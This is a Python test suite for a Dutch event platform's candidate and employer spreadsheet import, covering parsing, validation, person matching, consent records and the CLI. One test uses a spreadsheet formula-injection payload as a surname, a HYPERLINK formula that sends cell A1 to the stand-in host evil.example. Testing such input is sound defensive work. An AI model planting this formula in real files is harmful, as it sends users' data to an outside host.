"""Spreadsheet import: reading files, recognising columns, checking rows, matching people, all or nothing."""

from __future__ import annotations

import datetime as dt
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook
from sqlalchemy import func, select

from events.demo.seed import DEMO_SLUG, DemoResult
from events.platform import i18n
from events.platform.db import import_models, open_session
from events.platform.errors import DomainError, NotFoundError
from events.platform.identity import CurrentUser
from events.platform.models import (
    EVENT_TZ,
    AuditEntry,
    Candidate,
    CandidateCoach,
    CandidateParticipation,
    Consent,
    ConsentMethod,
    EmployerContact,
    EmployerParticipation,
    Opening,
    Organisation,
    OrganisationKind,
    ParticipationStatus,
    PathwayKind,
    User,
)
from events.platform.services import find_event, to_current_user
from events.platform.settings import Settings
from events.registration.imports import Table, apply_import, preview_import, read_table
from events.registration.imports_cells import ImportConsent, default_consent_purpose, parse_date, parse_rounds
from events.registration.imports_fields import ImportRejected, RowError, guess_mapping
from tests.cli import cli
from tests.conftest import ORGANISER, run
from tests.helpers import organising_id

CANDIDATE_HEADERS = ["Voornaam", "Achternaam", "E-mailadres", "Telefoon", "Geboortedatum", "Coach e-mail"]


# --- helpers -----------------------------------------------------------------------------------------


def write_xlsx(path: Path, headers: Sequence[object], rows: Sequence[Sequence[object]]) -> Path:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(list(headers))
    for row in rows:
        sheet.append(list(row))
    workbook.save(path)
    return path


def table(headers: list[str], *rows: list[str]) -> Table:
    return Table(headers=headers, rows=[list(r) for r in rows], row_numbers=list(range(2, len(rows) + 2)))


async def table_counts(settings: Settings) -> dict[str, int]:
    """Rows in every table of the schema."""
    async with open_session(settings) as session:
        return {
            t.name: int(await session.scalar(select(func.count()).select_from(t)) or 0)
            for t in import_models().sorted_tables
        }


async def as_user(settings: Settings, email: str) -> CurrentUser:
    async with open_session(settings) as session:
        user = await session.scalar(select(User).where(User.email == email))
        assert user is not None
        return to_current_user(user)


CONSENT = ImportConsent(method=ConsentMethod.PAPER, given_on=dt.date(2026, 11, 2))


async def do_import(
    settings: Settings,
    kind: str,
    data: Table,
    *,
    user_email: str = ORGANISER,
    apply: bool = True,
    consent: ImportConsent | None = CONSENT,
) -> Any:
    """Import (or preview) ``data`` into the demo event as the given user, in English, and commit."""
    user = await as_user(settings, user_email)
    with i18n.language("en"):
        async with open_session(settings) as session:
            event = await find_event(session, DEMO_SLUG)
            mapping = guess_mapping(kind, data.headers)
            if not apply:
                return await preview_import(session, user, event, kind, data, mapping)
            result = await apply_import(session, user, event, kind, data, mapping, consent)
            await session.commit()
            return result


async def count(settings: Settings, model: Any) -> int:
    async with open_session(settings) as session:
        return int(await session.scalar(select(func.count()).select_from(model)) or 0)


def fifty_candidates() -> list[list[object]]:
    rows: list[list[object]] = []
    for index in range(50):
        rows.append(
            [
                f"Voornaam{index}",
                f"Achternaam{index}",
                f"kandidaat{index}@example.org",
                f"06-{10000000 + index}",
                dt.datetime(1980, 1, 1) + dt.timedelta(days=index),
                "coach@demo.meetmatch.nl",
            ]
        )
    return rows


# --- reading files -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "delimiter"),
    [
        ("\ufeffVoornaam;Achternaam\r\nAnna;de Wit\r\n\r\nJoost;Béérens\r\n".encode(), ";"),
        ("Voornaam,Achternaam\nAnna,de Wit\n\nJoost,Béérens\n".encode("cp1252"), ","),
    ],
)
def test_read_table_csv_either_delimiter_and_encoding(data: bytes, delimiter: str) -> None:
    result = read_table(data, "lijst.csv")

    assert result.headers == ["Voornaam", "Achternaam"]
    assert result.rows == [["Anna", "de Wit"], ["Joost", "Béérens"]]
    assert result.row_numbers == [2, 4]


def test_read_table_xlsx_dates_become_iso_and_empty_rows_keep_numbering(tmp_path: Path) -> None:
    path = write_xlsx(
        tmp_path / "lijst.xlsx",
        ["Voornaam", "Geboortedatum", "Uren"],
        [["Anna", dt.datetime(1990, 5, 17), 32], [None, None, None], ["Joost", dt.date(2001, 1, 2), 24.0]],
    )

    result = read_table(path.read_bytes(), "lijst.xlsx")

    assert result.rows == [["Anna", "1990-05-17", "32"], ["Joost", "2001-01-02", "24"]]
    assert result.row_numbers == [2, 4]


@pytest.mark.parametrize(
    ("data", "filename", "code"),
    [
        (b"", "leeg.csv", "empty_file"),
        (b"Voornaam;Achternaam\r\n", "kop.csv", "no_rows"),
        (b"%PDF-1.4 ...", "lijst.pdf", "unsupported_file"),
        (b"not a zip file at all", "lijst.xlsx", "unreadable_file"),
        (b"PK\x03\x04rest", "lijst.csv", "unsupported_file"),
    ],
)
def test_read_table_bad_file_is_refused_with_the_file_named(data: bytes, filename: str, code: str) -> None:
    with pytest.raises(DomainError) as caught:
        read_table(data, filename)

    assert (caught.value.code, caught.value.field) == (code, "file")


# --- columns and cells -------------------------------------------------------------------------------


def test_guess_mapping_dutch_candidate_headers_recognised() -> None:
    headers = [
        "Voornaam",
        "Tussenvoegsel",
        "ACHTERNAAM",
        "E-mailadres",
        "Mobiel",
        "Geboortedatum",
        "Woonplaats",
        "E-mail coach",
        "Interesses",
        "Uren per week",
        "Rondes",
        "Status",
        "Opmerking",
    ]

    mapping = guess_mapping("candidates", headers)

    assert mapping == {
        0: "first_name",
        1: "infix",
        2: "last_name",
        3: "email",
        4: "phone",
        5: "date_of_birth",
        6: "city",
        7: "coach_email",
        8: "sectors",
        9: "hours_per_week",
        10: "rounds",
        11: "status",
    }


def test_guess_mapping_english_candidate_headers_recognised_without_case_or_accents() -> None:
    headers = ["First name", "last name", "Émail", "Phone", "Date of birth", "City", "Coach email", "Sectors", "Hours"]

    mapping = guess_mapping("candidates", headers)

    assert list(mapping.values()) == [
        "first_name",
        "last_name",
        "email",
        "phone",
        "date_of_birth",
        "city",
        "coach_email",
        "sectors",
        "hours_per_week",
    ]


@pytest.mark.parametrize(
    "headers",
    [
        "Werkgever;Tafels;Plaatsen per tafel;Rondes;Contactpersoon;E-mail;Telefoon;Vacature;Soort;Uren per week;"
        "Sector;Omschrijving",
        "Organisation;Tables;Seats;Rounds;Contact;Email;Phone;Opening;Kind;Hours;Sector;Description",
    ],
)
def test_guess_mapping_employer_headers_recognised_in_both_languages(headers: str) -> None:
    mapping = guess_mapping("employers", headers.split(";"))

    assert list(mapping.values()) == [
        "organisation",
        "tables",
        "seats",
        "rounds",
        "contact_name",
        "contact_email",
        "contact_phone",
        "opening_title",
        "opening_kind",
        "hours_per_week",
        "sector",
        "description",
    ]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("17-05-1990", dt.date(1990, 5, 17)),
        ("7-5-1990", dt.date(1990, 5, 7)),
        ("17/05/1990", dt.date(1990, 5, 17)),
        ("1990-05-17", dt.date(1990, 5, 17)),
    ],
)
def test_parse_date_usual_forms_accepted(text: str, expected: dt.date) -> None:
    assert parse_date(text) == expected


@pytest.mark.parametrize(("text", "expected"), [("1,2,3", [1, 2, 3]), ("1-3", [1, 2, 3]), ("5, 1-2", [1, 2, 5])])
def test_parse_rounds_lists_and_ranges_accepted(text: str, expected: list[int]) -> None:
    assert parse_rounds(text, 6) == expected


# --- checking rows -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("header", "cell", "error"),
    [
        ("Achternaam", "", RowError(2, "last_name", "this value is required")),
        ("E-mail", "anna(at)example.org", RowError(2, "email", "not a valid e-mail address")),
        ("Coach e-mail", "niemand@example.org", RowError(2, "coach_email", "no coach with e-mail niemand@example.org")),
        ("Geboortedatum", "31-02-1990", RowError(2, "date_of_birth", "not a date (write it as dd-mm-yyyy)")),
        ("Uren per week", "veel", RowError(2, "hours_per_week", "not a whole number")),
        ("Rondes", "1-9", RowError(2, "rounds", "rounds must lie between 1 and 6")),
        ("Sectoren", "zorg, ruimtevaart", RowError(2, "sectors", "unknown sector: ruimtevaart")),
        ("Status", "weg", RowError(2, "status", "unknown status: weg")),
        ("Toestemming", "01-01-2999", RowError(2, "consent_date", "lies in the future")),
        ("Toestemming", "gisteren", RowError(2, "consent_date", "not a date (write it as dd-mm-yyyy)")),
        ("Toestemming via", "duif", RowError(2, "consent_method", "unknown way of giving consent: duif")),
    ],
)
def test_preview_import_bad_cell_is_a_row_error(
    demo: DemoResult, database: Settings, header: str, cell: str, error: RowError
) -> None:
    headers = ["Voornaam", "Achternaam", header] if header != "Achternaam" else ["Voornaam", "Achternaam"]
    row = ["Anna", "de Wit", cell] if header != "Achternaam" else ["Anna", cell]

    preview = run(do_import(database, "candidates", table(headers, row), apply=False))

    assert preview.errors == [error]


@pytest.mark.parametrize(
    ("kind", "rows", "errors"),
    [
        pytest.param(
            "candidates",
            [["Voornaam", "Achternaam", "Coach e-mail"], ["Anna", "de Wit", ORGANISER]],
            [RowError(2, "coach_email", f"no coach with e-mail {ORGANISER}")],
            id="coach_of_another_role_is_unknown",
        ),
        pytest.param(
            "candidates",
            [
                ["Voornaam", "Achternaam", "E-mail", "Telefoon"],
                ["Anna", "de Wit", "anna@example.org", ""],
                ["Bram", "Smit", "", "06 1234 5678"],
                ["Anna", "de Wit", "ANNA@example.org", ""],
                ["bram", "smit", "", "+31 6 12345678"],
            ],
            [
                RowError(4, "last_name", "the same person as in row 2"),
                RowError(5, "last_name", "the same person as in row 3"),
            ],
            id="same_person_twice_in_the_file_is_a_row_error",
        ),
        pytest.param(
            "employers",
            [
                ["Werkgever", "Vacature", "Soort", "E-mail"],
                ["Fietsfabriek", "Monteur", "astronaut", ""],
                ["", "Hulp", "", "els@"],
            ],
            [
                RowError(2, "opening_kind", "unknown kind: astronaut"),
                RowError(3, "organisation", "this value is required"),
                RowError(3, "contact_email", "not a valid e-mail address"),
            ],
            id="employers_bad_kind_and_missing_name_are_row_errors",
        ),
    ],
)
def test_preview_import_rows_give_row_errors(
    demo: DemoResult, database: Settings, kind: str, rows: list[list[str]], errors: list[RowError]
) -> None:
    preview = run(do_import(database, kind, table(*rows), apply=False))

    assert preview.errors == errors


def test_preview_import_reasons_are_dutch_by_default(demo: DemoResult, database: Settings) -> None:
    async def preview() -> list[RowError]:
        user = await as_user(database, ORGANISER)
        async with open_session(database) as session:
            event = await find_event(session, DEMO_SLUG)
            data = table(["Voornaam", "Achternaam"], ["Anna", ""])
            result = await preview_import(
                session, user, event, "candidates", data, guess_mapping("candidates", data.headers)
            )
            return result.errors

    errors = run(preview())

    assert errors == [RowError(2, "last_name", "dit veld is verplicht")]


def test_preview_import_mapping_without_a_required_column_is_refused(demo: DemoResult, database: Settings) -> None:
    data = table(["Voornaam", "Woonplaats"], ["Anna", "Delft"])

    with pytest.raises(DomainError) as caught:
        run(do_import(database, "candidates", data, apply=False))

    assert (caught.value.code, caught.value.field, caught.value.message) == (
        "bad_mapping",
        "mapping",
        "no column for last_name",
    )


# --- writing candidates ------------------------------------------------------------------------------


def test_apply_import_bad_row_writes_nothing(demo: DemoResult, database: Settings) -> None:
    before = run(table_counts(database))
    data = table(["Voornaam", "Achternaam"], ["Anna", "de Wit"], ["Bram", ""])

    with pytest.raises(ImportRejected) as caught:
        run(do_import(database, "candidates", data))

    assert caught.value.errors == [RowError(3, "last_name", "this value is required")]
    assert run(table_counts(database)) == before


def test_apply_import_new_people_without_consent_refused_and_nothing_written(
    demo: DemoResult, database: Settings
) -> None:
    before = run(table_counts(database))
    data = table(["Voornaam", "Achternaam"], ["Anna", "de Wit"], ["Bram", "Smit"])

    with pytest.raises(DomainError) as caught:
        run(do_import(database, "candidates", data, consent=None))

    assert (caught.value.code, caught.value.field) == ("consent_required", "consent")
    assert caught.value.message == (
        "2 new candidates have no consent record in the file: confirm how and when they consented"
    )
    assert run(table_counts(database)) == before


async def consents_of(settings: Settings, first_name: str) -> list[tuple[str, dt.date, str, int | None]]:
    """(method, day in the event's zone, purpose, recorded by) of each consent of the people so named."""
    async with open_session(settings) as session:
        query = select(Consent).join(Candidate).where(Candidate.first_name == first_name).order_by(Consent.id)
        return [
            (c.method.value, c.given_at.astimezone(EVENT_TZ).date(), c.purpose, c.recorded_by_id)
            for c in await session.scalars(query)
        ]


def test_apply_import_records_the_confirmed_consent_for_new_people_only(demo: DemoResult, database: Settings) -> None:
    async def seed() -> None:
        async with open_session(database) as session:
            owner = await organising_id(session)
            session.add(
                Candidate(first_name="Anna", last_name="de Wit", email="anna@example.org", organisation_id=owner)
            )
            await session.commit()

    run(seed())
    organiser = run(as_user(database, ORGANISER))
    data = table(["Voornaam", "Achternaam", "E-mail"], ["Anna", "de Wit", "anna@example.org"], ["Bram", "Smit", ""])

    preview = run(do_import(database, "candidates", data, apply=False))
    result = run(do_import(database, "candidates", data))

    assert preview.needs_consent == 1
    assert result.details["consents_recorded"] == 1
    assert run(consents_of(database, "Anna")) == []
    with i18n.language("en"):
        purpose = default_consent_purpose()
    assert run(consents_of(database, "Bram")) == [("paper", dt.date(2026, 11, 2), purpose, organiser.id)]


def test_apply_import_consent_columns_of_the_file_need_no_confirmation(demo: DemoResult, database: Settings) -> None:
    data = table(
        ["Voornaam", "Achternaam", "Toestemming", "Toestemming via"],
        ["Anna", "de Wit", "01-10-2025", "schriftelijk"],
        ["Bram", "Smit", "2025-09-15", ""],
    )

    preview = run(do_import(database, "candidates", data, apply=False))
    run(do_import(database, "candidates", data, consent=None))

    assert preview.needs_consent == 0
    assert [c[:2] for c in run(consents_of(database, "Anna"))] == [("paper", dt.date(2025, 10, 1))]
    assert [c[:2] for c in run(consents_of(database, "Bram"))] == [("verbal", dt.date(2025, 9, 15))]


def test_apply_import_known_people_matched_on_email_name_phone_and_name_birth(
    demo: DemoResult, database: Settings
) -> None:
    async def seed() -> None:
        async with open_session(database) as session:
            owner = await organising_id(session)
            session.add_all(
                [
                    Candidate(
                        first_name="Anna", last_name="de Wit", email="Anna.deWit@example.org", organisation_id=owner
                    ),
                    Candidate(first_name="Bram", last_name="Smit", phone="06-12345678", organisation_id=owner),
                    Candidate(
                        first_name="Cem", last_name="Öztürk", date_of_birth=dt.date(1985, 3, 4), organisation_id=owner
                    ),
                    Candidate(first_name="Dewi", last_name="Jansen", phone="0611111111", organisation_id=owner),
                ]
            )
            await session.commit()

    run(seed())
    before = run(count(database, Candidate))
    data = table(
        ["Voornaam", "Achternaam", "E-mail", "Telefoon", "Geboortedatum", "Woonplaats"],
        ["Anneke", "Wit", "anna.dewit@EXAMPLE.org", "", "", "Delft"],
        ["bram", "smit", "", "+31 6 1234 5678", "", ""],
        ["CEM", "ÖZTÜRK", "", "", "04-03-1985", ""],
        ["Dewi", "Jansen", "", "0622222222", "", ""],
    )

    result = run(do_import(database, "candidates", data))

    async def stored() -> tuple[str | None, int]:
        async with open_session(database) as session:
            anna = await session.scalar(select(Candidate).where(Candidate.email == "Anna.deWit@example.org"))
            dewis = await session.scalar(select(func.count()).where(Candidate.first_name == "Dewi"))
            assert anna is not None
            return anna.city, int(dewis or 0)

    assert (result.created, result.matched, result.updated) == (1, 3, 1)
    assert run(count(database, Candidate)) == before + 1
    assert run(stored()) == ("Delft", 2)


def test_apply_import_matched_candidate_keeps_its_values_and_gains_missing_ones(
    demo: DemoResult, database: Settings
) -> None:
    async def seed() -> int:
        async with open_session(database) as session:
            candidate = Candidate(
                first_name="Anna",
                last_name="de Wit",
                email="anna@example.org",
                city="Delft",
                organisation_id=await organising_id(session),
            )
            session.add(candidate)
            await session.commit()
            return candidate.id

    candidate_id = run(seed())
    data = table(
        ["Voornaam", "Achternaam", "E-mail", "Woonplaats", "Telefoon", "Coach e-mail", "Rondes", "Status"],
        ["A.", "Wit", "anna@example.org", "Den Haag", "0612345678", "coach@demo.meetmatch.nl", "1-3", "bevestigd"],
    )

    run(do_import(database, "candidates", data))

    async def stored() -> tuple[Any, ...]:
        async with open_session(database) as session:
            candidate = await session.get(Candidate, candidate_id)
            participation = await session.scalar(
                select(CandidateParticipation).where(CandidateParticipation.candidate_id == candidate_id)
            )
            coaches = await session.scalars(
                select(User.email)
                .join(CandidateCoach, CandidateCoach.coach_id == User.id)
                .where(CandidateCoach.candidate_id == candidate_id)
            )
            assert candidate is not None
            assert participation is not None
            return (
                candidate.first_name,
                candidate.city,
                candidate.phone,
                participation.status,
                participation.rounds,
                list(coaches),
            )

    assert run(stored()) == (
        "Anna",
        "Delft",
        "0612345678",
        ParticipationStatus.CONFIRMED,
        [1, 2, 3],
        ["coach@demo.meetmatch.nl"],
    )


def test_apply_import_infix_joins_the_last_name_and_formula_text_is_stored_as_given(
    demo: DemoResult, database: Settings
) -> None:
    surname = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    data = table(["Voornaam", "Tussenvoegsel", "Achternaam"], ["Anna", "van der", "Wit"], ["Mal", "", surname])

    run(do_import(database, "candidates", data))

    async def names() -> list[str]:
        async with open_session(database) as session:
            found = await session.scalars(select(Candidate.last_name).where(Candidate.first_name.in_(["Anna", "Mal"])))
            return sorted(found)

    assert run(names()) == sorted(["van der Wit", surname])


def test_apply_import_writes_one_audit_entry_with_counts(demo: DemoResult, database: Settings) -> None:
    data = table(["Voornaam", "Achternaam"], ["Anna", "de Wit"], ["Bram", "Smit"])

    run(do_import(database, "candidates", data))

    async def entries() -> list[tuple[str, dict[str, Any]]]:
        async with open_session(database) as session:
            rows = await session.scalars(select(AuditEntry).where(AuditEntry.action == "import"))
            return [(e.actor_role, e.detail) for e in rows]

    [(role, detail)] = run(entries())
    assert role == "organiser"
    assert (detail["kind"], detail["rows"], detail["created"]) == ("candidates", 2, 2)


@pytest.mark.parametrize("email", ["coach@demo.meetmatch.nl", "groen@demo.meetmatch.nl", "ingang@demo.meetmatch.nl"])
@pytest.mark.parametrize("apply", [True, False])
def test_import_non_organiser_refused(demo: DemoResult, database: Settings, email: str, apply: bool) -> None:
    before = run(table_counts(database))
    data = table(["Voornaam", "Achternaam"], ["Anna", "de Wit"])

    with pytest.raises(NotFoundError):
        run(do_import(database, "candidates", data, user_email=email, apply=apply))

    assert run(table_counts(database)) == before


# --- writing employers -------------------------------------------------------------------------------

EMPLOYER_HEADERS = [
    "Werkgever",
    "Tafels",
    "Plaatsen per tafel",
    "Rondes",
    "Contactpersoon",
    "E-mail",
    "Telefoon",
    "Vacature",
    "Soort",
    "Uren per week",
    "Sector",
    "Omschrijving",
]


def test_apply_import_employers_creates_organisations_participations_contacts_and_openings(
    demo: DemoResult, database: Settings
) -> None:
    data = table(
        EMPLOYER_HEADERS,
        [
            "Fietsfabriek",
            "2",
            "5",
            "1-3",
            "Els de Haan",
            "els@fiets.nl",
            "015-1234567",
            "Monteur",
            "betaalde baan",
            "32",
            "techniek",
            "Fietsen maken",
        ],
        ["fietsfabriek", "", "", "", "Els de Haan", "els@fiets.nl", "", "Stage werkplaats", "stage", "", "", ""],
        ["Kringloop Delft", "", "", "", "", "", "", "", "", "", "", ""],
    )

    result = run(do_import(database, "employers", data))

    async def stored() -> list[tuple[Any, ...]]:
        async with open_session(database) as session:
            participations = await session.scalars(
                select(EmployerParticipation)
                .join(Organisation)
                .where(Organisation.name.in_(["Fietsfabriek", "Kringloop Delft"]))
                .order_by(Organisation.name)
            )
            found = []
            for p in participations:
                contacts = await session.scalars(
                    select(EmployerContact.name, EmployerContact.email, EmployerContact.user_id).where(
                        EmployerContact.employer_participation_id == p.id
                    )
                )
                openings = await session.execute(
                    select(Opening.title, Opening.kind, Opening.hours_per_week, Opening.sector)
                    .where(Opening.employer_participation_id == p.id)
                    .order_by(Opening.id)
                )
                found.append((p.tables, p.seats, p.rounds, list(contacts.all()), [tuple(o) for o in openings]))
            return found

    assert (result.created, result.matched) == (2, 0)
    assert result.details["openings_created"] == 2
    assert run(stored()) == [
        (
            2,
            2,  # 5 seats asked, the demo event allows 2
            [1, 2, 3],
            ["Els de Haan"],
            [
                ("Monteur", PathwayKind.PAID_JOB, 32, "techniek"),
                ("Stage werkplaats", PathwayKind.INTERNSHIP, None, "techniek"),
            ],
        ),
        (1, 1, None, [], []),
    ]


def test_apply_import_employers_known_organisation_matched_whatever_its_case(
    demo: DemoResult, database: Settings
) -> None:
    async def seed() -> None:
        async with open_session(database) as session:
            session.add(Organisation(name="Café Het Plein", kind=OrganisationKind.EMPLOYER))
            await session.commit()

    run(seed())
    before = run(count(database, Organisation))
    data = table(["Werkgever", "Vacature"], ["CAFÉ  HET PLEIN", "Barmedewerker"])

    result = run(do_import(database, "employers", data))

    assert (result.created, result.matched) == (0, 1)
    assert run(count(database, Organisation)) == before


def test_cli_import_bad_rows_printed_exit_2_and_nothing_changed(settings: Settings, tmp_path: Path) -> None:
    assert cli(settings, "demo").returncode == 0
    rows = fifty_candidates()
    rows[5][1] = None  # spreadsheet row 7: no last name
    rows[10][5] = "onbekend@example.org"  # spreadsheet row 12: nobody's coach
    path = write_xlsx(tmp_path / "kandidaten.xlsx", CANDIDATE_HEADERS, rows)
    before = run(table_counts(settings))

    result = cli(settings, "import", DEMO_SLUG, "candidates", str(path), "--language", "en")

    assert result.returncode == 2
    assert result.stderr.splitlines() == [
        "row 7: last_name: this value is required",
        "row 12: coach_email: no coach with e-mail onbekend@example.org",
        "error: 2 problem(s) in kandidaten.xlsx; nothing was imported",
    ]
    assert run(table_counts(settings)) == before


def test_cli_import_fixed_file_imports_50_and_a_second_run_matches_all(settings: Settings, tmp_path: Path) -> None:
    assert cli(settings, "demo").returncode == 0
    path = write_xlsx(tmp_path / "kandidaten.xlsx", CANDIDATE_HEADERS, fifty_candidates())
    candidates_before = run(count(settings, Candidate))
    consents_before = run(count(settings, Consent))
    participations_before = run(table_counts(settings))["candidate_participation"]

    first = cli(settings, "import", DEMO_SLUG, "candidates", str(path), "--consent-date", "02-11-2025")
    after_first = run(table_counts(settings))
    # Everyone is known by now: matching needs no new consent.
    second = cli(settings, "import", DEMO_SLUG, "candidates", str(path))

    assert first.returncode == 0, first.stderr
    assert first.stdout.splitlines()[0] == (
        f"imported 50 rows into {DEMO_SLUG}: 50 candidates created, 0 matched, 0 updated"
    )
    assert after_first["candidate"] == candidates_before + 50
    assert after_first["candidate_participation"] == participations_before + 50
    assert after_first["consent"] == consents_before + 50
    assert "  consents recorded: 50" in first.stdout.splitlines()
    assert second.returncode == 0, second.stderr
    assert second.stdout.splitlines()[0] == (
        f"imported 50 rows into {DEMO_SLUG}: 0 candidates created, 50 matched, 0 updated"
    )
    assert {k: v for k, v in run(table_counts(settings)).items() if k != "audit_entry"} == {
        k: v for k, v in after_first.items() if k != "audit_entry"
    }


def test_cli_import_dry_run_writes_nothing(settings: Settings, tmp_path: Path) -> None:
    assert cli(settings, "demo").returncode == 0
    path = write_xlsx(tmp_path / "kandidaten.xlsx", CANDIDATE_HEADERS, fifty_candidates()[:3])
    before = run(table_counts(settings))

    result = cli(settings, "import", "1", "candidates", str(path), "--dry-run", "--consent-date", "2025-11-02")

    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == (
        "dry run: 3 rows are fine: 3 new candidates, 0 matching existing ones; nothing was written"
    )
    assert run(table_counts(settings)) == before


def test_cli_import_new_people_without_consent_refused_exit_2_and_nothing_changed(
    settings: Settings, tmp_path: Path
) -> None:
    assert cli(settings, "demo").returncode == 0
    path = write_xlsx(tmp_path / "kandidaten.xlsx", CANDIDATE_HEADERS, fifty_candidates()[:3])
    before = run(table_counts(settings))

    missing = cli(settings, "import", DEMO_SLUG, "candidates", str(path), "--language", "en")
    dry = cli(settings, "import", DEMO_SLUG, "candidates", str(path), "--dry-run", "--language", "en")
    bad_date = cli(settings, "import", DEMO_SLUG, "candidates", str(path), "--consent-date", "31-02-2025")
    future = cli(settings, "import", DEMO_SLUG, "candidates", str(path), "--consent-date", "01-01-2999")

    expected = (
        "error: consent: 3 new candidates have no consent record in the file: confirm how and when they "
        "consented (--consent-date DD-MM-YYYY [--consent-method paper|digital]); nothing was imported"
    )
    assert (missing.returncode, missing.stderr.strip()) == (2, expected)
    assert (dry.returncode, dry.stderr.strip()) == (2, expected)
    assert (bad_date.returncode, bad_date.stderr.strip()) == (
        2,
        "error: consent_date: geen datum (schrijf hem als dd-mm-jjjj)",
    )
    assert (future.returncode, future.stderr.strip()) == (2, "error: consent_date: ligt in de toekomst")
    assert run(table_counts(settings)) == before


def test_cli_import_unreadable_file_is_a_clear_message(settings: Settings, tmp_path: Path) -> None:
    assert cli(settings, "demo").returncode == 0
    path = tmp_path / "lijst.pdf"
    path.write_bytes(b"%PDF-1.4")

    result = cli(settings, "import", DEMO_SLUG, "employers", str(path))

    assert result.returncode == 2
    assert result.stderr.strip() == "error: file: choose a .csv or .xlsx file"


def test_apply_import_known_person_who_withdrew_and_consented_again_gets_the_new_consent(
    demo: DemoResult, database: Settings
) -> None:
    async def seed() -> None:
        async with open_session(database) as session:
            anna = Candidate(
                first_name="Anna",
                last_name="de Wit",
                email="anna@example.org",
                organisation_id=await organising_id(session),
            )
            session.add(anna)
            await session.flush()
            session.add(
                Consent(
                    candidate_id=anna.id,
                    purpose="eerder",
                    given_at=dt.datetime(2025, 1, 1, tzinfo=dt.UTC),
                    withdrawn_at=dt.datetime(2025, 6, 1, tzinfo=dt.UTC),
                )
            )
            await session.commit()

    run(seed())
    data = table(
        ["Voornaam", "Achternaam", "E-mail", "Toestemming"], ["Anna", "de Wit", "anna@example.org", "01-10-2025"]
    )

    result = run(do_import(database, "candidates", data, consent=None))

    assert (result.matched, result.details["consents_recorded"]) == (1, 1)
    assert [c[:2] for c in run(consents_of(database, "Anna"))] == [
        ("verbal", dt.date(2025, 1, 1)),
        ("verbal", dt.date(2025, 10, 1)),
    ]
